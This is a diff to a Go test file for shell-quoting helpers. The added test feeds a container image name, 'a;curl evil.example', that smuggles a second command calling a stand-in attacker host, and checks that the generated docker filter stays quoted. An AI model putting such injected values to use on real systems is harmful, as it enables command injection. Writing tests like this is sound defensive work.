@@ -5,6 +5,8 @@ import (
 	"testing"
 
 	"github.com/google/go-cmp/cmp"
+
+	"handbook/content"
 )
 
 func TestIsOwn(t *testing.T) {
@@ -57,6 +59,11 @@ func TestQuote(t *testing.T) {
 		if got := quote(name); got != want {
 			t.Errorf("%q: %s, want %s", name, got, want)
 		}
+	}
+	c := Container{Image: "a;curl evil.example"} // as an engine in the machine may say
+	i := Inventory{Engine: Engine{Images: []Image{{Name: content.CanonicalRef(c.Image)}}}}
+	if got := i.found(c); got != "docker ps -aq --filter 'ancestor=a;curl evil.example'" {
+		t.Error(got)
 	}
 	if got := quoteFile("-rf"); got != "./-rf" {
 		t.Errorf("an option: %s", got)
